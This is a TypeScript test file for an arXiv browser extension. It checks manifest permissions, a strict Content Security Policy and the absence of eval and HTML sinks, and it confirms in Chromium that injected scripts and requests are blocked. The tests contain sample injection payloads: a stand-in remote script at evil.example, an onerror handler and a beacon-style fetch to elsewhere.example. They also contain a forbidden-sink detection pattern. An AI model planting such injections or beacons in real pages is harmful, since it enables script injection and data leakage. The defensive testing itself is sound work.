import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXTENSION_DIR, launch, type Harness } from './harness';

const ROOT = join(import.meta.dirname, '../..');
const PERMISSIONS = ['alarms', 'contextMenus', 'notifications', 'storage', 'unlimitedStorage'];
const HOSTS = ['https://arxiv.org/*', 'https://export.arxiv.org/*'];

interface Manifest {
  permissions?: string[];
  host_permissions?: string[];
  optional_permissions?: string[];
  optional_host_permissions?: string[];
  content_security_policy?: { extension_pages?: string; sandbox?: string };
  content_scripts?: { matches: string[]; all_frames?: boolean }[];
  web_accessible_resources?: unknown;
  externally_connectable?: unknown;
}

const manifest = () => JSON.parse(readFileSync(join(EXTENSION_DIR, 'manifest.json'), 'utf8')) as Manifest;

function filesUnder(dir: string, extensions: RegExp): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return filesUnder(path, extensions);
    return extensions.test(name) ? [path] : [];
  });
}

/** The README's permission table: the backticked names in its first column. */
function justifiedInReadme(): string[] {
  const readme = readFileSync(join(ROOT, 'README.md'), 'utf8');
  const privacy = readme.slice(readme.indexOf('## Privacy'), readme.indexOf('\n## ', readme.indexOf('## Privacy') + 1));
  const rows = privacy.split('\n').filter((line) => /^\|\s*(host\s+)?`/.test(line));
  return rows.flatMap((row) => [...row.split('|')[1]!.matchAll(/`([^`]+)`/g)].map((m) => m[1]!));
}

/** Each directive of a CSP with its sources. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter((words) => words[0])
      .map(([name, ...sources]) => [name!, sources]),
  );
}

const withoutComments = (source: string) => source.replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|[^:'"`])\/\/.*$/gm, '$1');

describe('least privilege in the built extension', () => {
  it('asks for exactly the permissions it uses, and only arXiv hosts', () => {
    const m = manifest();
    expect([...(m.permissions ?? [])].sort()).toEqual(PERMISSIONS);
    expect([...(m.host_permissions ?? [])].sort()).toEqual(HOSTS);
    expect(m.optional_permissions ?? []).toEqual([]);
    expect(m.optional_host_permissions ?? []).toEqual([]);
    expect(m.web_accessible_resources).toBeUndefined();
    expect(m.externally_connectable).toBeUndefined();
    for (const script of m.content_scripts ?? []) {
      expect(script.matches.every((match) => /^https:\/\/(www\.)?arxiv\.org\/\*$/.test(match)), script.matches.join()).toBe(true);
      expect(script.all_frames ?? false).toBe(false);
    }
  });

  it('justifies every permission in the README\'s Privacy table, and nothing more', () => {
    const m = manifest();
    expect(justifiedInReadme().sort()).toEqual([...(m.permissions ?? []), ...(m.host_permissions ?? [])].sort());
  });

  it('gives extension pages a strict CSP: own scripts only, no eval, no plugins, no base tag, and arXiv the only other host', () => {
    const policy = manifest().content_security_policy?.extension_pages ?? '';
    const csp = directives(policy);
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('script-src')).toEqual(["'self'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'none'"]);
    expect(csp.get('connect-src')).toEqual(["'self'", 'https://export.arxiv.org', 'https://arxiv.org']);
    expect(csp.get('img-src')).toEqual(["'self'", 'https://arxiv.org']);
    // The math renderer writes style attributes; nothing else is allowed inline.
    expect(csp.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
    const others = [...csp].filter(([name]) => !['connect-src', 'img-src', 'style-src'].includes(name)).flatMap(([, sources]) => sources);
    expect(others.join(' ')).not.toMatch(/unsafe-|https?:|\*|data:|blob:/);
  });

  it('loads no remote code: built pages load only their own scripts, bundles import nothing remote', () => {
    const pages = filesUnder(EXTENSION_DIR, /\.html$/);
    expect(pages.map((p) => relative(EXTENSION_DIR, p)).sort()).toEqual(['newtab.html', 'options.html', 'popup.html']);
    for (const page of pages) {
      const html = readFileSync(page, 'utf8');
      const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
      expect(scripts.length, page).toBeGreaterThan(0);
      for (const [, attributes, body] of scripts) {
        expect(attributes, page).toMatch(/\bsrc="\/[^/]/);
        expect(body!.trim(), `${page}: inline script`).toBe('');
      }
      for (const [, url] of html.matchAll(/\b(?:src|href)="([^"]+)"/gi)) expect(url, page).toMatch(/^\/[^/]/);
    }
    for (const bundle of filesUnder(EXTENSION_DIR, /\.js$/)) {
      const code = readFileSync(bundle, 'utf8');
      expect(code, bundle).not.toMatch(/\bimport\(\s*["'`]https?:|importScripts\(\s*["'`]https?:|<script[^>]+src=["'`]https?:/);
    }
  });

  it('has no eval, no Function constructor and no HTML sinks in its own source', () => {
    const sources = ['lib', 'components', 'entrypoints'].flatMap((dir) => filesUnder(join(ROOT, dir), /\.tsx?$/));
    expect(sources.length).toBeGreaterThan(50);
    const forbidden = /\beval\s*\(|\bnew\s+Function\s*\(|\bFunction\s*\(\s*['"`]|\bset(?:Timeout|Interval)\s*\(\s*['"`]|\.innerHTML\b|\.outerHTML\b|insertAdjacentHTML|dangerouslySetInnerHTML|document\.write|createContextualFragment|\bsrcdoc\b/;
    const offenders = sources.filter((file) => forbidden.test(withoutComments(readFileSync(file, 'utf8'))));
    expect(offenders.map((file) => relative(ROOT, file))).toEqual([]);
  });
});

describe('the CSP in Chromium', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await launch();
  });
  afterAll(async () => h?.close());

  // (eval is not tried here: code the test runs through DevTools is exempt from the page's CSP,
  // and so is an eval it makes. The policy's lack of 'unsafe-eval' is checked above.)
  it('stops inline scripts, inline handlers and remote scripts on an extension page, and reports each', async () => {
    const page = await h.open('options.html');
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { __paperRadarCanary?: number };
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
      const inline = document.createElement('script');
      inline.textContent = 'window.__paperRadarCanary = 1';
      document.body.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.body.append(remote);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__paperRadarCanary = 2');
      img.src = 'data:,not-an-image';
      document.body.append(img);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { canary: w.__paperRadarCanary ?? null, violations };
    });
    expect(outcome.canary).toBeNull();
    expect(outcome.violations).toEqual(
      expect.arrayContaining([expect.stringMatching(/^script-src-elem inline/), expect.stringMatching(/^script-src-elem https:\/\/evil\.example/), expect.stringMatching(/^script-src-attr inline/)]),
    );
    await page.close();
  });

  it('lets an extension page reach no host but arXiv: a request or an image elsewhere is stopped and reported', async () => {
    const page = await h.open('options.html');
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
      const fetched = await fetch('https://elsewhere.example/collect?x=1').then(() => 'sent', () => 'refused');
      const img = document.createElement('img');
      img.src = 'https://elsewhere.example/pixel.png';
      document.body.append(img);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe('refused');
    expect(outcome.violations).toEqual(
      expect.arrayContaining([expect.stringMatching(/^connect-src https:\/\/elsewhere\.example/), expect.stringMatching(/^img-src https:\/\/elsewhere\.example/)]),
    );
    await page.close();
  });
});
